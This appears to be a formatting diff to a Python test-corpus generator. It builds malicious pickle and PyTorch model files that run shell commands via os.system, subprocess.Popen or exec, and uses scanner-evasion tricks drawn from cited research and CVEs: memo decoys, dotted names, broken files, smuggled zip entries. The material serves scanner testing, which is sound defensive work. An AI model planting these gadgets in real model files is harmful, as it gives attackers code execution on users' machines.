@@ -14,7 +14,9 @@ from vocation.bundle import reader as bundle
 from .cases import START, WHOLE, Case, technique
 
 _SOUR = "M. Slaviero, Sour Pickles, Black Hat USA 2011"
-_FICKLING = "Trail of Bits, Never a dill moment: exploiting machine learning pickle files, 2021 (fickling)"
+_FICKLING = (
+    "Trail of Bits, Never a dill moment: exploiting machine learning pickle files, 2021 (fickling)"
+)
 _PICKLESCAN = "picklescan advisories CVE-2025-1716, CVE-2025-10155 to 10157"
 _NULLIFAI = "ReversingLabs, nullifAI: malicious models with broken pickles, 2025"
 SINGLE = ("tiny", "tasks", "default")
@@ -41,13 +43,22 @@ def _text(value: str) -> bytes:
 def _reduce(case: Case) -> bytes:
     import posix
 
-    return pickle.dumps({"classes_": Reduced(posix.system, _command(case))}, protocol=case.rng.randrange(6))
+    return pickle.dumps(
+        {"classes_": Reduced(posix.system, _command(case))}, protocol=case.rng.randrange(6)
+    )
 
 
 def _run_python(case: Case) -> bytes:
     function = case.rng.choice([exec, eval, compile, __import__, open])
-    arguments = {"open": (str(case.canary), "w"), "compile": ("1", "x", "eval"), "__import__": ("antigravity",)}
-    return pickle.dumps(Reduced(function, *arguments.get(function.__name__, (f"open({str(case.canary)!r},'w')",))), protocol=case.rng.randrange(6))
+    arguments = {
+        "open": (str(case.canary), "w"),
+        "compile": ("1", "x", "eval"),
+        "__import__": ("antigravity",),
+    }
+    return pickle.dumps(
+        Reduced(function, *arguments.get(function.__name__, (f"open({str(case.canary)!r},'w')",))),
+        protocol=case.rng.randrange(6),
+    )
 
 
 def _global(case: Case) -> bytes:
@@ -64,7 +75,11 @@ def _obj(case: Case) -> bytes:
 
 def _build(case: Case) -> bytes:
     """An object whose state sets __setstate__ to a function, which a second BUILD then calls."""
-    return b"ccollections\nCounter\n)\x81}(S'__setstate__'\ncos\nsystem\nubS'" + _command(case).encode() + b"'\nb."
+    return (
+        b"ccollections\nCounter\n)\x81}(S'__setstate__'\ncos\nsystem\nubS'"
+        + _command(case).encode()
+        + b"'\nb."
+    )
 
 
 def _newobj(case: Case) -> bytes:
@@ -72,7 +87,11 @@ def _newobj(case: Case) -> bytes:
 
 
 def _newobj_ex(case: Case) -> bytes:
-    return b"\x80\x04csubprocess\nPopen\n(S'" + _command(case).encode() + b"'\nt}(S'shell'\nI01\nu\x92."
+    return (
+        b"\x80\x04csubprocess\nPopen\n(S'"
+        + _command(case).encode()
+        + b"'\nt}(S'shell'\nI01\nu\x92."
+    )
 
 
 def _stack_global(case: Case) -> bytes:
@@ -80,7 +99,9 @@ def _stack_global(case: Case) -> bytes:
 
 
 def _through_memo(case: Case) -> bytes:
-    """The name comes from the memo, past a decoy: scanners that look at the last two texts see the decoy."""
+    """The name comes from the memo, past a decoy: scanners that look at the last two texts see the
+    decoy.
+    """
     return (
         b"\x80\x04"
         + _text("os")
@@ -100,11 +121,22 @@ def _behind_pop(case: Case) -> bytes:
 
 
 def _dotted(case: Case) -> bytes:
-    return b"\x80\x04" + _text("numpy") + _text("f2py.os.system") + b"\x93(" + _text(_command(case)) + b"tR."
+    return (
+        b"\x80\x04"
+        + _text("numpy")
+        + _text("f2py.os.system")
+        + b"\x93("
+        + _text(_command(case))
+        + b"tR."
+    )
 
 
 def _attribute_chain(case: Case) -> bytes:
-    return b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n(X\x02\x00\x00\x00ostRX\x06\x00\x00\x00systemtR(" + _text(_command(case)) + b"tR."
+    return (
+        b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n(X\x02\x00\x00\x00ostRX\x06\x00\x00\x00systemtR("
+        + _text(_command(case))
+        + b"tR."
+    )
 
 
 def _reentry(case: Case) -> bytes:
@@ -135,7 +167,9 @@ def _registry(case: Case) -> bytes:
 
 
 def _broken(case: Case) -> bytes:
-    """The gadget runs first, then the file breaks: what cannot be read to its end was never scanned."""
+    """The gadget runs first, then the file breaks: what cannot be read to its end was never
+    scanned.
+    """
     return _global(case)[:-1] + b"\xff\xff broken"
 
 
@@ -149,7 +183,19 @@ def _persistent(case: Case) -> bytes:
 
 GADGETS: list[tuple[Callable[[Case], bytes], str]] = [
     *((gadget, _SOUR) for gadget in (_reduce, _global, _inst, _obj, _build, _run_python)),
-    *((gadget, _FICKLING) for gadget in (_newobj, _newobj_ex, _stack_global, _through_memo, _behind_pop, _attribute_chain, _registry, _persistent)),
+    *(
+        (gadget, _FICKLING)
+        for gadget in (
+            _newobj,
+            _newobj_ex,
+            _stack_global,
+            _through_memo,
+            _behind_pop,
+            _attribute_chain,
+            _registry,
+            _persistent,
+        )
+    ),
     *((gadget, _PICKLESCAN) for gadget in (_dotted, _reentry, _unlisted)),
     *((gadget, _NULLIFAI) for gadget in (_broken, _second)),
 ]
@@ -163,7 +209,9 @@ def payload(case: Case) -> bytes:
 
 def _every(name: str) -> Callable[[Case], None]:
     def spoil(case: Case) -> None:
-        case.put(name if name in (ensemble.LIST, bundle.MANIFEST) else case.file(name), payload(case))
+        case.put(
+            name if name in (ensemble.LIST, bundle.MANIFEST) else case.file(name), payload(case)
+        )
         case.sealed = name != bundle.MANIFEST
 
     spoil.__name__ = f"pickle as {name}"
@@ -178,28 +226,55 @@ for _repeat in range(6):  # the one file that a person is meant to unpickle gets
 technique(_SOUR, (*WHOLE, *START, "complete"), SINGLE)(_every(bundle.WEIGHTS))
 
 
-def torch_zip(case: Case, data: bytes, root: str = "archive", more: dict[str, bytes] | None = None, method: int = zipfile.ZIP_STORED) -> bytes:
+def torch_zip(
+    case: Case,
+    data: bytes,
+    root: str = "archive",
+    more: dict[str, bytes] | None = None,
+    method: int = zipfile.ZIP_STORED,
+) -> bytes:
     """A file as torch.save writes it, with `data` for its pickle."""
     stream = io.BytesIO()
     with zipfile.ZipFile(stream, "w", method) as archive:
-        for name, content in {"data.pkl": data, "byteorder": b"little", "version": b"3\n", **(more or {})}.items():
+        for name, content in {
+            "data.pkl": data,
+            "byteorder": b"little",
+            "version": b"3\n",
+            **(more or {}),
+        }.items():
             archive.writestr(f"{root}/{name}", content)
     return stream.getvalue()
 
 
-@technique("PyTorch advisory CVE-2025-32434; PyTorch Hub documentation, Security", (*WHOLE, *START, "complete"), SINGLE)
+@technique(
+    "PyTorch advisory CVE-2025-32434; PyTorch Hub documentation, Security",
+    (*WHOLE, *START, "complete"),
+    SINGLE,
+)
 def torch_zip_with_a_gadget(case: Case) -> None:
     case.put(bundle.WEIGHTS, torch_zip(case, payload(case)))
 
 
 @technique(_NULLIFAI, (*WHOLE, *START), SINGLE)
 def torch_zip_with_two_pickles(case: Case) -> None:
-    case.put(bundle.WEIGHTS, torch_zip(case, pickle.dumps({}, 2), more={"../archive/data.pkl": payload(case)}))
+    case.put(
+        bundle.WEIGHTS,
+        torch_zip(case, pickle.dumps({}, 2), more={"../archive/data.pkl": payload(case)}),
+    )
 
 
-@technique("CVE-2025-1889: picklescan and files with other endings inside", (*WHOLE, *START), SINGLE)
+@technique(
+    "CVE-2025-1889: picklescan and files with other endings inside", (*WHOLE, *START), SINGLE
+)
 def torch_zip_with_code_beside(case: Case) -> None:
-    case.put(bundle.WEIGHTS, torch_zip(case, pickle.dumps({}, 2), more={"code/__torch__.py": b"import os", "constants.pkl": payload(case)}))
+    case.put(
+        bundle.WEIGHTS,
+        torch_zip(
+            case,
+            pickle.dumps({}, 2),
+            more={"code/__torch__.py": b"import os", "constants.pkl": payload(case)},
+        ),
+    )
 
 
 @technique("CVE-2025-1945: picklescan and flag bits of zip entries", (*WHOLE, *START), SINGLE)
